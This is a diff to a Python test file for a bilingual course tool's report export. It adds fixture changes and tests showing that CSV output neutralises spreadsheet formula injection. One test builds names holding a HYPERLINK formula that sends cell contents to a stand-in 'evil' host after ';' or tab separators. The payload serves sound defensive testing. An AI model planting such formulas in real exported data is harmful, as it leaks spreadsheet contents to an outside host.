@@ -5,6 +5,7 @@ import datetime
 import html.parser
 import io
 import json
+import re
 
 import hypothesis
 import pytest
@@ -28,6 +29,12 @@ QUESTION = model.Prediction(
     (model.Option("a", {"en": "k8s-w1", "ko": "k8s-w1"}), model.Option("b", {"en": "nobody", "ko": "없음"})),
     "b",
 )
+
+
+def _use(name: str) -> model.CheckUse:
+    return model.CheckUse(name, {}, "k8s-m", {"en": "Sessions", "ko": "BGP 세션"})
+
+
 COURSE = model.Course(
     model.NOWHERE.file,
     ("en", "ko"),
@@ -35,8 +42,8 @@ COURSE = model.Course(
         model.Lesson(
             "07", 7, {"en": "BGP"}, {},
             (
-                model.Step("one", {"en": "Sessions", "ko": "세션"}, {}, prediction=QUESTION),
-                model.Step("two", {"en": "Routes", "ko": "경로"}, {}),
+                model.Step("one", {"en": "Sessions", "ko": "세션"}, {}, (), QUESTION, (_use("bgp.sessions"),)),
+                model.Step("two", {"en": "Routes", "ko": "경로"}, {}, checks=(_use("x"),)),
             ),
             (),
         ),
@@ -156,7 +163,7 @@ def test_nobody_is_named_in_an_anonymous_report(lang: str) -> None:
 
 
 def test_json_holds_all() -> None:
-    """In plain UTF-8."""
+    """In plain UTF-8, since what is readable needs no escape."""
     written = as_json.render(made())
     found = json.loads(written)
     assert "밥" in written
@@ -185,12 +192,23 @@ def test_no_name_is_a_formula(name: str) -> None:
     assert rows[1][1].startswith("'")
 
 
-@hypothesis.given(st.text())
+@pytest.mark.parametrize("begin", [";", "\t", "\r", "\n", "; ", ';"', ";;", ",;\t"])
+@pytest.mark.parametrize("separator", [";", "\t"])
+def test_no_part_of_a_name_is_a_formula(separator: str, begin: str) -> None:
+    """Where a comma is the decimal mark, spreadsheets split at ";", and with their quotes it is nothing."""
+    name = f'x{begin}=HYPERLINK("http://evil/"&A1)'
+    cells = re.split(f"[{separator}\r\n]", as_csv.render(made(ann=name), "progress"))
+    assert not [cell for cell in cells if cell.strip(" \"'")[:1] == "=" and "'" not in cell.partition("=")[0]]
+
+
+@hypothesis.given(st.text() | st.text(alphabet="=+-@x;\"' \t\n"))
 def test_any_cell_is_harmless(text: str) -> None:
     """And numbers stay what they are."""
     cell = as_csv.harmless(text)
     assert isinstance(cell, str)
-    assert not cell.strip() or cell.lstrip()[0] not in "=+-@"
+    for part in cell.split(";"):
+        assert part.lstrip(' "')[:1] not in tuple("=+-@")
+    cell.encode()
     assert as_csv.harmless(-1.5) == -1.5
 
 
